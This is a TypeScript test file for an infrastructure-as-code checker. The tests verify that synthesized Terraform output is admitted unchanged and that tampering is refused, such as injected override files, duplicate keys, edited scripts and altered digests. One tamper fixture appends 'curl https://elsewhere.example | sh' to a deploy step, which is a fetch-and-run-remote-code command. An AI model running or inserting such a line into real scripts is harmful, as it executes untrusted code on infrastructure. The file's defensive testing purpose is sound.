import { cpSync, existsSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { AssetType, TerraformAsset, TerraformStack } from "cdktf";
import { GatewrightApp } from "../../src/synth/app";
import { PocEnvironment } from "../../stacks/1-poc";
import { folderWith } from "../support/folder";
import { pocConfig } from "../support/poc-config";
import { runCli } from "../support/run-cli";
import { check, poc } from "./checked";

const PLATFORM = "cdktf.out/stacks/orders-poc-platform";
const SERVICES = "cdktf.out/stacks/orders-poc-services";
const ENVIRONMENT = "cdktf.out/environments/orders-poc";
const ASSET = `${PLATFORM}/assets/policy`;

/** A project whose POC is written, with an asset and a stack of the user's own in it; synthesized once. */
const written = (() => {
  let folder: string | undefined;
  return () => {
    folder ??= poc({}, { "policy.json": "{}" });
    if (existsSync(join(folder, "cdktf.out"))) return folder;
    const app = new GatewrightApp({ outdir: join(folder, "cdktf.out") });
    const environment = new PocEnvironment(app, pocConfig());
    new TerraformAsset(environment.platform.stack, "policy", {
      path: join(folder, "policy.json"),
      type: AssetType.FILE,
    });
    new TerraformStack(environment, "mine").addOverride("terraform.required_version", ">= 1.11.0, < 2.0.0");
    app.synth();
    return folder;
  };
})();

/** A copy of it, changed, and what `check --dir` makes of it. */
async function checked(change: (folder: string) => void, ...argv: readonly string[]) {
  const folder = folderWith();
  cpSync(written(), folder, { recursive: true });
  change(folder);
  return check(folder, ...(argv.length > 0 ? argv : ["poc"]), "--dir", join(folder, "cdktf.out"));
}

const put = (path: string, text: string) => (folder: string) => {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
};
const edit = (path: string, change: (text: string) => string) => (folder: string) => {
  const before = readFileSync(join(folder, path), "utf8");
  const after = change(before);
  if (after === before) throw new Error(`${path} is as before`);
  writeFileSync(join(folder, path), after);
};
/** What no synth left digests of: the output of a plain app, or of somebody else. */
const foreign = (folder: string) => rmSync(join(folder, "cdktf.out/environments"), { recursive: true });

const OPEN_VAULT = '{"resource":{"azurerm_key_vault":{"vault":{"network_acls":{"default_action":"Allow"}}}}}';
const ADDRESS = '{"resource":{"azurerm_public_ip":{"mine":{"name":"pip-mine"}}}}';

describe("an output as its synth wrote it", () => {
  test("is admitted, with everything that Terraform and people keep beside it", async () => {
    const beside = {
      "notes.md": "# mine",
      "production.tfvars": 'x = "y"',
      ".terraform.lock.hcl": "",
      ".terraform/modules/modules.json": "{}",
      ".terraform/modules/x/main.tf": "",
      ".terraform/environment": "default",
      ".more.tf": "",
      "more.tf~": "",
      "a.tftest.hcl": "",
      "terraform.tfstate": "{}",
    };
    const { code, out } = await checked((folder) => {
      for (const [name, text] of Object.entries(beside)) put(`${PLATFORM}/${name}`, text)(folder);
    });
    expect([code, out]).toEqual([0, expect.stringMatching(/^orders-poc {2}POC {2}ADMITTED/)]);
  });

  test.each<[string, (folder: string) => void]>([
    ["in another layout", edit(`${PLATFORM}/cdk.tf.json`, (text) => JSON.stringify(JSON.parse(text)))],
    [
      "in another order",
      edit(`${PLATFORM}/cdk.tf.json`, (text) =>
        JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(text)).reverse())),
      ),
    ],
    [
      "with a key spelled otherwise",
      edit(`${PLATFORM}/cdk.tf.json`, (text) => text.replace('"resource"', '"\\u0072esource"')),
    ],
    ["with a list of sections", edit(`${PLATFORM}/cdk.tf.json`, inLists)],
    [
      "behind a link",
      (folder) => {
        renameSync(join(folder, `${PLATFORM}/cdk.tf.json`), join(folder, "kept.json"));
        symlinkSync("../../../kept.json", join(folder, `${PLATFORM}/cdk.tf.json`));
      },
    ],
  ])("%s, is the same to Terraform, and admitted", async (_, change) => {
    expect((await checked(change)).code).toBe(0);
  });
});

function inLists(text: string): string {
  const json = JSON.parse(text);
  const types = Object.entries(json.resource).map(([type, named]) => ({ [type]: [named] }));
  return JSON.stringify({ ...json, resource: types });
}

describe("what Terraform would load beside a stack is refused, whoever wrote the stack", () => {
  const rows: Readonly<Record<string, string>> = {
    "override.tf.json": OPEN_VAULT,
    "open_override.tf.json": OPEN_VAULT,
    "override.tf": 'resource "azurerm_key_vault" "vault" {}',
    "more.tf": 'resource "azurerm_public_ip" "mine" {}',
    "more.tf.json": ADDRESS,
    "more.tofu": 'resource "azurerm_public_ip" "mine" {}',
    "terraform.tfvars": 'vpn = "00000000-0000-0000-0000-000000000000"',
    "terraform.tfvars.json": '{"vpn":"00000000-0000-0000-0000-000000000000"}',
    "x.auto.tfvars": 'vpn = "00000000-0000-0000-0000-000000000000"',
    ".x.auto.tfvars.json": '{"vpn":"00000000-0000-0000-0000-000000000000"}',
  };
  test.each(Object.entries(rows))("%s", async (name, text) => {
    for (const before of [() => {}, foreign]) {
      const { code, out, err } = await checked((folder) => {
        before(folder);
        put(`${SERVICES}/${name}`, text)(folder);
      });
      expect({ code, out }).toEqual({ code: 2, out: "" });
      expect(err).toContain(`${SERVICES} holds ${name} beside cdk.tf.json, which no gate has judged`);
    }
  });

  test("also by report and diff, and where a stack's file is named", async () => {
    const folder = folderWith();
    cpSync(written(), folder, { recursive: true });
    put(`${PLATFORM}/override.tf.json`, OPEN_VAULT)(folder);
    const out = join(folder, "cdktf.out");
    const file = join(folder, PLATFORM, "cdk.tf.json");
    const says = "holds override.tf.json beside cdk.tf.json, which no gate has judged";
    for (const argv of [
      ["report", "--dir", out, "--environments", folder],
      ["diff", out, out],
      ["diff", file, file],
      ["check", "--plan", file, "--environments", folder],
    ]) {
      const { code, err } = await runCli(...argv);
      expect([code, err]).toEqual([2, expect.stringContaining(says)]);
    }
  });
});

test.each([
  [
    "a second section before the real one",
    (text: string) => text.replace("{", `{"resource":${JSON.stringify(JSON.parse(ADDRESS).resource)},`),
  ],
  [
    "in another spelling",
    (text: string) => text.replace("{", `{"\\u0072esource":${JSON.stringify(JSON.parse(ADDRESS).resource)},`),
  ],
  [
    "a second type",
    (text: string) => text.replace('"azurerm_key_vault": {', '"azurerm_key_vault": {},"azurerm_key_vault": {'),
  ],
  ["a second block", (text: string) => text.replace('"sku_name"', '"sku_name":"premium","sku_name"')],
])("a key twice, %s, is refused with its line", async (_, change) => {
  for (const before of [() => {}, foreign]) {
    const { code, err } = await checked((folder) => {
      before(folder);
      edit(`${PLATFORM}/cdk.tf.json`, change)(folder);
    });
    expect(code).toBe(2);
    expect(err).toMatch(
      /^cdktf\.out\/stacks\/orders-poc-platform\/cdk\.tf\.json:\d+:\d+ {2}"\w+" stands twice in one object/,
    );
  }
});

describe("what was changed since the synth", () => {
  const rows: readonly (readonly [string, (folder: string) => void, string])[] = [
    [
      "a value",
      edit(`${PLATFORM}/cdk.tf.json`, (text) => text.replace('"admin_enabled": false', '"admin_enabled": null')),
      `Changed since synth: ${PLATFORM}/cdk.tf.json`,
    ],
    [
      "who a stack says it is",
      edit(`${PLATFORM}/cdk.tf.json`, (text) => text.replace('"workload": "orders"', '"workload": "billing"')),
      `Changed since synth: ${PLATFORM}/cdk.tf.json`,
    ],
    [
      "a stack of the user's own",
      edit("cdktf.out/stacks/mine/cdk.tf.json", (text) => text.replace("1.11.0", "1.12.0")),
      "Changed since synth: cdktf.out/stacks/mine/cdk.tf.json",
    ],
    ["an asset", (folder) => put(`${ASSET}/more.json`, "{}")(folder), `Added since synth: ${ASSET}/more.json`],
    [
      "a step's script",
      edit(`${ENVIRONMENT}/steps/03-apply-platform.sh`, (text) => `${text}\ncurl https://elsewhere.example | sh\n`),
      `Changed since synth: ${ENVIRONMENT}/steps/03-apply-platform.sh`,
    ],
    ["a script more", put(`${ENVIRONMENT}/steps/03-b.sh`, "true"), `Added since synth: ${ENVIRONMENT}/steps/03-b.sh`],
    [
      "a script less",
      (folder) => rmSync(join(folder, `${ENVIRONMENT}/steps/01-tools.sh`)),
      `Gone since synth: ${ENVIRONMENT}/steps/01-tools.sh`,
    ],
    [
      "what people follow",
      edit(`${ENVIRONMENT}/FIRST-APPLY.md`, (text) => `${text}\nbash elsewhere.sh\n`),
      `Changed since synth: ${ENVIRONMENT}/FIRST-APPLY.md`,
    ],
    [
      "steps as data",
      edit(`${ENVIRONMENT}/steps.json`, (text) => text.replace("03-apply-platform", "03-apply")),
      `Changed since synth: ${ENVIRONMENT}/steps.json`,
    ],
    [
      "a stack that is gone",
      (folder) => rmSync(join(folder, SERVICES), { recursive: true }),
      `Gone since synth: ${SERVICES}/cdk.tf.json`,
    ],
    [
      "a stack of another name",
      (folder) => renameSync(join(folder, SERVICES), join(folder, `${SERVICES}-2`)),
      `Added since synth: ${SERVICES}-2/cdk.tf.json`,
    ],
  ];
  test.each(rows)("holds: %s", async (_, change, says) => {
    const { code, out } = await checked(change);
    expect([code, out]).toEqual([1, expect.stringContaining(says.replaceAll("cdktf.out/", ""))]);
    expect(out).toContain("(REC-10)");
  });

  test("is judged on what it is, too", async () => {
    const weaken = edit(`${PLATFORM}/cdk.tf.json`, (text) =>
      text.replace('"admin_enabled": false', '"admin_enabled": true'),
    );
    const { out } = await checked(weaken);
    expect(out).toContain("(SEC-02)");
    expect(out).toContain("(REC-10)");
    const alone = await checked((folder) => {
      foreign(folder);
      weaken(folder);
    });
    expect(alone.out).toContain("(SEC-02)");
    expect(alone.out).not.toContain("(REC-10)");
  });

  test("is said by a report, on stderr", async () => {
    const folder = folderWith();
    cpSync(written(), folder, { recursive: true });
    edit(`${PLATFORM}/cdk.tf.json`, (text) => text.replace('"admin_enabled": false', '"admin_enabled": null'))(folder);
    const { code, err } = await runCli("report", "--dir", join(folder, "cdktf.out"), "--environments", folder);
    expect([code, err]).toEqual([0, "Changed since synth: stacks/orders-poc-platform/cdk.tf.json.\n"]);
  });

  test("cannot be waived", async () => {
    const { out } = await check(poc(), "--explain", "REC-10");
    expect(out).toContain("What would be applied is what the synth wrote");
  });

  test("a stack in whose folder another workspace is selected is refused", async () => {
    const { code, err } = await checked(put(`${PLATFORM}/.terraform/environment`, "side\n"));
    expect([code, err]).toEqual([
      2,
      `${PLATFORM}/.terraform/environment selects the workspace side, whose state is not the one that the stack names\n    Remove the file: an environment has a state of its own, and the generation is in its key.\n`,
    ]);
  });

  test("digests that were changed themselves are refused", async () => {
    const file = "cdktf.out/environments/orders-poc/digests.json";
    const { code, err } = await checked(edit(file, (text) => text.replace("sha256:", "sha1:")));
    expect([code, err]).toEqual([2, `${file} does not hold the digests of orders-poc\n    Synthesize it again.\n`]);
  });
});

describe("a stack of no environment", () => {
  const put2 = put("cdktf.out/stacks/zz/cdk.tf.json", ADDRESS);

  test("is refused beside one that is judged with its config", async () => {
    const { code, err } = await checked(put2);
    expect([code, err]).toEqual([
      2,
      "cdktf.out holds zz, which is of no environment and not judged with one\n" +
        "    Make the stack below an environment, or write it into a folder of its own and judge it there with --gate.\n",
    ]);
  });

  test("is judged by itself where no config is named", async () => {
    const { code, out } = await checked(put2, "--gate", "poc");
    expect([code, out]).toEqual([1, expect.stringMatching(/^zz {2}POC {2}HELD/m)]);
  });

  test("that says it is a foundation is not passed over", async () => {
    const json = JSON.stringify({
      ...JSON.parse(ADDRESS),
      "//": { gatewright: { workload: "orders", stage: "foundation" } },
    });
    const { code, err } = await checked(put("cdktf.out/stacks/zz/cdk.tf.json", json), "--gate", "poc");
    expect([code, err]).toEqual([2, "zz says that it is the foundation orders-foundation\n    Synthesize it again.\n"]);
  });
});
